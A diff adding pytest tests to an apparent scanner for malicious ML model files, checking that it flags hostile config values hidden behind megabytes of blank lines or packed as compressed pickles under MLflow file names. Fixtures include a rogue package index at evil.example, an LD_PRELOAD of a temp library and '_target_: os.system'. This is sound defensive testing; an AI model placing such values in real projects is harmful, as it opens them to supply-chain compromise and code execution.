@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import importlib
 import os
 import pickle
@@ -9,6 +10,8 @@ import pkgutil
 import random
 import re
 import struct
+import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -170,6 +173,46 @@ def test_no_flood_of_findings_hides_a_grave_one() -> None:
     )
     found = look_at_bytes(stream(unknown + SYSTEM), "model.pkl").findings.values()
     assert "critical" in {item.severity for item in found}
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("requirements.txt", b"--extra-index-url https://evil.example/simple\n"),
+        ("conda.yaml", b"variables: {LD_PRELOAD: /tmp/x.so}\n"),
+        ("python_env.yaml", b"dependencies: ['--index-url https://evil.example']\n"),
+        ("pickle_module_info.txt", b"evil"),
+        ("keras_module.txt", b"evil"),
+        ("MLmodel", b"flavors: {python_function: {loader_module: evil}}\n"),
+        ("config.yaml", b"_target_: os.system\n"),
+        ("config.json", b'{"_target_": "os.system"}'),
+    ],
+)
+@pytest.mark.parametrize("blank", [0, 1 << 20, 5 << 20])
+def test_no_length_of_blanks_hides_what_stands_behind_it(
+    tmp_path: Path, name: str, content: bytes, blank: int
+) -> None:
+    (tmp_path / name).write_bytes(b"\n" * blank + content)
+    assert {"critical", "high"} & {item.severity for item in findings(tmp_path)}
+
+
+@pytest.mark.parametrize(
+    "name", ["requirements.txt", "conda.yaml", "python_env.yaml", "MLmodel", "keras_module.txt"]
+)
+@pytest.mark.parametrize("packed", [zlib.compress(EVIL), gzip.compress(EVIL), b"x==1\n"])
+def test_a_pickle_called_like_a_file_of_mlflow_is_found(
+    tmp_path: Path, name: str, packed: bytes
+) -> None:
+    (tmp_path / name).write_bytes(packed)
+    if packed.startswith(b"x"):  # no pickle, but the archive behind it
+        with zipfile.ZipFile(tmp_path / name, "a") as archive:
+            archive.writestr("data.pkl", EVIL)
+    assert "pickle-executes" in told(findings(tmp_path))
+
+
+def test_so_many_targets_that_some_are_not_looked_up_are_told() -> None:
+    many = b"".join(b"_target_: m%d.f\n" % number for number in range(10_001))
+    assert rules(many + b"_target_: os.system\n", "config.yaml") == ["not-inspected"]
 
 
 def test_what_stands_behind_many_others_is_looked_into_too() -> None:
